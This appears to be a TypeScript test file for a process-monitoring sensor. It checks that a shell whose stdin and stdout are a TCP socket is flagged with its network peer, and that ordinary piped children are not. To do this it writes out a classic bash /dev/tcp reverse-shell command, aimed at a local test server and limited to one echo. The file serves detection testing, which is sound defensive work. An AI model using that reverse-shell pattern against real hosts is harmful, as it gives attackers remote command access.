import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import type { ExecRecord } from './records';
import { startSensor } from './sensor';
import { collect, exitOf, kernelSkipReason, waitFor } from './testing/kernel';

const skip = kernelSkipReason();

const execsOf = (records: { kind: string }[], pid: number) =>
  records.filter((r): r is ExecRecord => r.kind === 'exec' && (r as ExecRecord).pid === pid);

test(
  'a shell whose stdin and stdout are a TCP socket is flagged with its peer at exec',
  { skip, timeout: 30_000 },
  async () => {
    let received = '';
    const server = createServer((socket) => socket.on('data', (d) => (received += d)));
    // The peer's port is read at once: Node forgets it when the shell hangs up.
    const connected = new Promise<{ socket: Socket; clientPort: number }>((resolve) =>
      server.once('connection', (socket) => resolve({ socket, clientPort: socket.remotePort! })),
    );
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const port = (server.address() as AddressInfo).port;
    const sensor = await startSensor({ hooks: { files: false } });
    const records = collect(sensor);

    try {
      // bash opens /dev/tcp itself, then replaces itself with sh on that socket: the classic
      // reverse shell, bounded to one echo so it ends by itself.
      const script = `exec 3<>/dev/tcp/127.0.0.1/${port}; exec sh -c 'echo connected' <&3 >&3 2>&3`;
      const child = spawn('bash', ['-c', script], { stdio: 'ignore' });
      const { socket, clientPort } = await connected;
      assert.equal(await exitOf(child), 0);
      await waitFor(() => received.includes('connected'), 'the shell output');
      await waitFor(() => execsOf(records, child.pid!).length === 2, 'both execs');

      const shell = execsOf(records, child.pid!)[1]!;
      assert.equal(shell.argv[0], 'sh');
      for (const fd of [0, 1, 2] as const) {
        const stdio = shell.stdio[fd];
        assert.equal(stdio.isSocket, true, `fd ${fd} is a socket`);
        assert.equal(stdio.family, 2, `fd ${fd} is AF_INET`);
        assert.deepEqual(stdio.peer, {
          address: '127.0.0.1',
          port,
          localPort: clientPort,
        });
      }
      const bash = execsOf(records, child.pid!)[0]!;
      assert.equal(bash.stdio[0].peer, undefined, 'bash itself started without the socket');
      socket.destroy();
    } finally {
      sensor.stop();
      server.close();
    }
  },
);

test(
  "a child of Node's spawn with piped stdio has unix sockets, not a network peer",
  { skip, timeout: 30_000 },
  async () => {
    const sensor = await startSensor({ hooks: { network: false, files: false } });
    const records = collect(sensor);
    try {
      const child = spawn('/bin/true', [], { stdio: 'pipe' });
      await exitOf(child);
      await waitFor(() => execsOf(records, child.pid!).length === 1, 'the exec of true');

      const exec = execsOf(records, child.pid!)[0]!;
      for (const stdio of exec.stdio) {
        assert.equal(stdio.isSocket, true, 'libuv pipes are socketpairs');
        assert.equal(stdio.family, 1, 'AF_UNIX');
        assert.equal(stdio.peer, undefined);
      }
    } finally {
      sensor.stop();
    }
  },
);
